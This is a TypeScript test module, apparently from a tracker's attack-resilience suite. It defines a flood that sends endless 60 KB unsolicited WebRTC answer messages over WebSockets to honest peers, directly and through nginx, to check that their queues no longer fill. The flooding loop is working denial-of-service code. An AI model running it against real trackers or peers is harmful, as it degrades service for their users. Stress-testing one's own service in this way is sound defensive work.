// Answers of 60 KB to offers that honest peers never made: they used to fill the queues of those peers.
import { frame } from '../../../tracker/test/support/raw-client.ts';
import type { Attack } from '../attack.ts';
import { honestHash, honestPeerId } from '../honest/tracker.ts';
import { webSockets } from '../raw-socket.ts';

const SDP = 'x'.repeat(60_000);

export const attack: Attack = {
  id: '10a',
  title: 'answers of 60 KB that nobody asked for',
  service: 'tracker',
  isShort: true,
  run: ({ port }) =>
    webSockets(port, async (socket, index) => {
      const message = {
        action: 'announce',
        info_hash: honestHash(index % 4),
        peer_id: `attacker ${index}`.padEnd(20),
        to_peer_id: honestPeerId('asking', index % 4),
        offer_id: 'x'.repeat(20),
        answer: { type: 'answer', sdp: SDP },
      };
      const bytes = frame(JSON.stringify(message));
      while (socket.isOpen) await socket.send(bytes);
    }),
};

export const behindNginx: Attack = {
  ...attack,
  id: '10b',
  title: `${attack.title}, through nginx`,
  isBehindNginx: true,
  isShort: false,
};
